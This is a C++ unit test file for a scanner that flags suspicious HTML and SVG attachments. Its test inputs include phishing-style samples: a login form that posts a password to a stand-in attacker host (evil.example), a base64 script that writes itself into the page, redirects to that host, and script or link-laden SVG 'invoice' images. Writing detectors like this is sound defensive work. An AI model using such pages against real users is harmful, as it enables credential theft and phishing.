#include <gmock/gmock.h>

#include "examine/attachment/testing.hpp"

namespace kanshiki::examine {

Found attached_page(const Text&, const Knowledge&, World&);
Found read_page(const Part&, const Knowledge&, World&);

namespace {

using ::testing::ElementsAre;
using ::testing::IsEmpty;

std::vector<std::string> said_of(const std::string& page, const std::string& name = "a.html") {
  const auto file = testing::file(name, page);
  return testing::ids(testing::run(attached_page, testing::leads<Text>(read_page, file).at(0)));
}

TEST(AttachedPage, OneThatOnlySays) {
  EXPECT_THAT(
      said_of("<h1>Minutes</h1><a href=https://example.com/>all of them</a><script>let a = 1;</script>"),
      IsEmpty());
}

TEST(AttachedPage, AForm) {
  EXPECT_THAT(
      said_of("<form action=https://evil.example/p><input name=mail><input type=password name=pw></form>"),
      ElementsAre("attachment.page_asks_password", "attachment.page_sends_form"));
  EXPECT_THAT(said_of("<form><input name=search></form>"), IsEmpty());
}

TEST(AttachedPage, OneThatUnwrapsItself) {
  const std::string data(500, 'A');
  EXPECT_THAT(said_of("<script>document.write(atob('" + data + "'))</script>"),
              ElementsAre("attachment.page_unwraps_itself"));
  EXPECT_THAT(said_of("<script>var picture = '" + data + "';</script>"), IsEmpty());
  EXPECT_THAT(said_of("<script>document.write(new Date())</script>"), IsEmpty());
}

TEST(AttachedPage, OneThatGoesElsewhere) {
  EXPECT_THAT(said_of("<meta http-equiv=refresh content='0;url=https://evil.example/'>"),
              ElementsAre("attachment.page_goes_elsewhere"));
  EXPECT_THAT(said_of("<script>window.location='https://evil.example/'</script>"),
              ElementsAre("attachment.page_goes_elsewhere"));
}

TEST(AttachedPage, APictureWithAScript) {
  EXPECT_THAT(said_of("<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", "a.svg"),
              ElementsAre("attachment.picture_with_script"));
  EXPECT_THAT(said_of("<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0'/></svg>", "a.svg"), IsEmpty());
}

TEST(AttachedPage, APictureWithAButton) {
  const std::string button =
      "<svg xmlns='http://www.w3.org/2000/svg'><a href='https://evil.example/'><rect/></a></svg>";
  EXPECT_THAT(said_of(button, "invoice.svg"), ElementsAre("attachment.picture_with_link"));
  EXPECT_THAT(said_of("<svg xmlns='http://www.w3.org/2000/svg'><a href='#part'><rect/></a></svg>", "a.svg"),
              IsEmpty());
}

TEST(AttachedPage, ABodyIsNoFile) {
  EXPECT_THAT(testing::ids(testing::run(attached_page, testing::html("<input type=password>"))), IsEmpty());
}

}  // namespace
}  // namespace kanshiki::examine
